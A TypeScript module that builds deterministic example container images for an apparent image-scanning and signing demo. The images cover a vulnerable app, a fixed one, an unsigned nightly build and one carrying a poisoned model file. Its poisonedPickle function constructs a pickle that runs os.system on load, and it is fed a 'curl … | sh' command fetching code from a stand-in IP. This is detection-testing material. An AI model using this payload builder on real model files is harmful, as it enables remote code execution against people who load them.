/**
 * The demo's example images, built byte by byte (no Docker, no network): a Debian 11 based web
 * app at 1.0 with packages that real advisories cover (examples/osv), the same app at 1.1 with
 * them fixed, 1.1-model, which adds a pickle model file that runs a shell command when loaded, and
 * nightly, an unsigned build.
 * Tar headers, gzip headers and JSON are written deterministically, so digests are stable.
 */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';

export const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
const OCI_CONFIG = 'application/vnd.oci.image.config.v1+json';
const OCI_LAYER = 'application/vnd.oci.image.layer.v1.tar+gzip';
const EPOCH = new Date('2026-01-15T00:00:00Z');

export interface ExampleFile {
  readonly path: string;
  readonly body: string | Uint8Array;
  readonly mode?: number;
}

export interface BuiltBlob {
  readonly mediaType: string;
  readonly digest: string;
  readonly size: number;
  readonly bytes: Buffer;
}

export interface ExampleImage {
  /** The tag the demo pushes it under (`1.0`, `1.1`, `1.1-model`). */
  readonly tag: string;
  readonly description: string;
  readonly manifest: BuiltBlob;
  readonly config: BuiltBlob;
  readonly layers: readonly BuiltBlob[];
}

function blob(bytes: Buffer, mediaType: string): BuiltBlob {
  return { mediaType, digest: sha256(bytes), size: bytes.length, bytes };
}

export function sha256(bytes: Uint8Array): string {
  return `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
}

/** A tar of the files (parent directories first), fixed owner, times and order. */
export async function buildTar(files: readonly ExampleFile[]): Promise<Buffer> {
  const tar = pack();
  const chunks: Buffer[] = [];
  tar.on('data', (chunk: unknown) => {
    chunks.push(chunk as Buffer);
  });
  const done = new Promise<void>((resolve, reject) => {
    tar.on('end', resolve);
    tar.on('error', reject);
  });
  const dirs = new Set<string>();
  const sorted = [...files].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
  const header = { uid: 0, gid: 0, uname: 'root', gname: 'root', mtime: EPOCH };
  for (const file of sorted) {
    const parts = file.path.replace(/^\/+/, '').split('/');
    for (let i = 1; i < parts.length; i++) {
      const dir = `${parts.slice(0, i).join('/')}/`;
      if (dirs.has(dir)) continue;
      dirs.add(dir);
      tar.entry({ ...header, name: dir, type: 'directory', mode: 0o755 });
    }
    const body = typeof file.body === 'string' ? Buffer.from(file.body, 'utf8') : Buffer.from(file.body);
    tar.entry({ ...header, name: parts.join('/'), mode: file.mode ?? 0o644, size: body.length }, body);
  }
  tar.finalize();
  await done;
  return Buffer.concat(chunks);
}

interface LayerSpec {
  readonly createdBy: string;
  readonly files: readonly ExampleFile[];
}

async function buildImage(
  tag: string,
  description: string,
  specs: readonly LayerSpec[],
): Promise<ExampleImage> {
  const layers: BuiltBlob[] = [];
  const diffIds: string[] = [];
  for (const spec of specs) {
    const tar = await buildTar(spec.files);
    diffIds.push(sha256(tar));
    // Node writes a gzip header with mtime 0 and a fixed OS byte: the same tar gives the same blob.
    layers.push(blob(gzipSync(tar, { level: 9 }), OCI_LAYER));
  }
  const config = blob(
    Buffer.from(
      JSON.stringify({
        created: EPOCH.toISOString(),
        architecture: 'amd64',
        os: 'linux',
        config: {
          User: '65532',
          Env: ['PATH=/usr/local/bin:/usr/bin:/bin', 'NODE_ENV=production'],
          Entrypoint: ['node', '/app/server.js'],
          WorkingDir: '/app',
          Labels: {
            'org.opencontainers.image.title': 'bosun-demo-app',
            'org.opencontainers.image.version': tag,
          },
        },
        rootfs: { type: 'layers', diff_ids: diffIds },
        history: specs.map((s) => ({ created: EPOCH.toISOString(), created_by: s.createdBy })),
      }),
    ),
    OCI_CONFIG,
  );
  const manifest = blob(
    Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: OCI_MANIFEST,
        config: { mediaType: config.mediaType, digest: config.digest, size: config.size },
        layers: layers.map((l) => ({ mediaType: l.mediaType, digest: l.digest, size: l.size })),
      }),
    ),
    OCI_MANIFEST,
  );
  return { tag, description, manifest, config, layers };
}

const OS_RELEASE = `PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"
NAME="Debian GNU/Linux"
VERSION_ID="11"
VERSION="11 (bullseye)"
VERSION_CODENAME=bullseye
ID=debian
HOME_URL="https://www.debian.org/"
`;

interface DebPackage {
  readonly name: string;
  readonly source?: string;
  readonly version: string;
  readonly description: string;
}

function dpkgStatus(packages: readonly DebPackage[]): string {
  return packages
    .map((p) =>
      [
        `Package: ${p.name}`,
        'Status: install ok installed',
        'Priority: required',
        'Architecture: amd64',
        ...(p.source === undefined ? [] : [`Source: ${p.source}`]),
        `Version: ${p.version}`,
        'Maintainer: Debian Maintainers <debian@example.invalid>',
        `Description: ${p.description}`,
        '',
      ].join('\n'),
    )
    .join('\n');
}

/** Versions that differ between 1.0 (vulnerable) and 1.1 (fixed). */
interface AppVersions {
  readonly zlib: string;
  readonly lodash: string;
  readonly minimist: string;
  readonly pyyaml: string;
  readonly xnet: string;
}

export const VULNERABLE: AppVersions = {
  zlib: '1:1.2.11.dfsg-2+deb11u1',
  lodash: '4.17.20',
  minimist: '1.2.5',
  pyyaml: '5.3.1',
  xnet: 'v0.10.0',
};

export const FIXED: AppVersions = {
  zlib: '1:1.2.11.dfsg-2+deb11u2',
  lodash: '4.17.21',
  minimist: '1.2.8',
  pyyaml: '6.0.1',
  xnet: 'v0.17.0',
};

function baseLayer(v: AppVersions): LayerSpec {
  return {
    createdBy: 'debian:11 base (os-release, dpkg status)',
    files: [
      { path: 'etc/os-release', body: OS_RELEASE },
      { path: 'etc/debian_version', body: '11.4\n' },
      {
        path: 'var/lib/dpkg/status',
        body: dpkgStatus([
          {
            name: 'base-files',
            version: '11.1+deb11u4',
            description: 'Debian base system miscellaneous files',
          },
          {
            name: 'libc6',
            source: 'glibc',
            version: '2.31-13+deb11u3',
            description: 'GNU C Library: Shared libraries',
          },
          { name: 'zlib1g', source: 'zlib', version: v.zlib, description: 'compression library - runtime' },
        ]),
      },
    ],
  };
}

function packageJson(name: string, version: string): string {
  return `${JSON.stringify({ name, version, license: 'MIT', main: 'index.js' }, null, 2)}\n`;
}

function appLayer(v: AppVersions): LayerSpec {
  return {
    createdBy: 'COPY app/ /app/ and pip install pyyaml',
    files: [
      { path: 'app/server.js', body: "require('http').createServer((q, s) => s.end('ok')).listen(8080);\n" },
      {
        path: 'app/package.json',
        body: `${JSON.stringify({ name: 'demo-app', version: '1.0.0', dependencies: { lodash: v.lodash, minimist: v.minimist } }, null, 2)}\n`,
      },
      { path: 'app/node_modules/lodash/package.json', body: packageJson('lodash', v.lodash) },
      { path: 'app/node_modules/minimist/package.json', body: packageJson('minimist', v.minimist) },
      {
        path: `usr/local/lib/python3.9/site-packages/PyYAML-${v.pyyaml}.dist-info/METADATA`,
        body: `Metadata-Version: 2.1\nName: PyYAML\nVersion: ${v.pyyaml}\nSummary: YAML parser and emitter for Python\nLicense: MIT\n\n`,
      },
      {
        path: 'opt/healthcheck/go.mod',
        body: `module example.com/healthcheck\n\ngo 1.21\n\nrequire golang.org/x/net ${v.xnet}\n`,
      },
    ],
  };
}

/**
 * A pickle (protocol 2) that calls `os.system(command)` when loaded: GLOBAL 'os system',
 * the argument tuple, REDUCE, STOP. Written opcode by opcode; nothing here ever unpickles it.
 */
export function poisonedPickle(command: string): Buffer {
  const arg = Buffer.from(command, 'utf8');
  const len = Buffer.alloc(4);
  len.writeUInt32LE(arg.length);
  return Buffer.concat([
    Buffer.from([0x80, 0x02]), // PROTO 2
    Buffer.from('cos\nsystem\n', 'latin1'), // GLOBAL os.system
    Buffer.from('X', 'latin1'), // BINUNICODE
    len,
    arg,
    Buffer.from([0x85]), // TUPLE1
    Buffer.from('R.', 'latin1'), // REDUCE, STOP
  ]);
}

/** A harmless pickle (protocol 2): a dict of two floats, only builtin opcodes, no callable. */
export function safePickle(): Buffer {
  const key = (s: string): Buffer => Buffer.concat([Buffer.from([0x58, s.length, 0, 0, 0]), Buffer.from(s)]);
  const float = (x: number): Buffer => {
    const b = Buffer.alloc(9);
    b[0] = 0x47; // BINFLOAT
    b.writeDoubleBE(x, 1);
    return b;
  };
  return Buffer.concat([
    Buffer.from([0x80, 0x02, 0x7d, 0x28]), // PROTO 2, EMPTY_DICT, MARK
    key('bias'),
    float(0.25),
    key('weight'),
    float(1.5),
    Buffer.from([0x75, 0x2e]), // SETITEMS, STOP
  ]);
}

/** The files of the demo's model directory (also the model layer of 1.1-model). */
export function modelFiles(poisoned: boolean): ExampleFile[] {
  return [
    {
      path: 'config.json',
      body: `${JSON.stringify({ model_type: 'demo-classifier', labels: ['ok', 'spam'] })}\n`,
    },
    {
      path: 'classifier.pkl',
      body: poisoned ? poisonedPickle('curl -s http://203.0.113.7/x | sh') : safePickle(),
    },
  ];
}

/**
 * app:1.0 (vulnerable), app:1.1 (fixed), app:1.1-model (fixed, plus a poisoned pickle under
 * /models) and app:nightly (like 1.1 but another digest: the image nobody signs).
 */
export async function buildExampleImages(): Promise<ExampleImage[]> {
  const v10 = await buildImage('1.0', 'vulnerable OS and language packages', [
    baseLayer(VULNERABLE),
    appLayer(VULNERABLE),
  ]);
  const v11 = await buildImage('1.1', 'the same app with the packages fixed', [
    baseLayer(FIXED),
    appLayer(FIXED),
  ]);
  const model = await buildImage('1.1-model', '1.1 plus a model file that runs a command when loaded', [
    baseLayer(FIXED),
    appLayer(FIXED),
    {
      createdBy: 'COPY models/ /models/',
      files: modelFiles(true).map((f) => ({ ...f, path: `models/${f.path}` })),
    },
  ]);
  const nightly = await buildImage('nightly', 'a build from outside the pipeline (never signed)', [
    baseLayer(FIXED),
    appLayer(FIXED),
  ]);
  return [v10, v11, model, nightly];
}
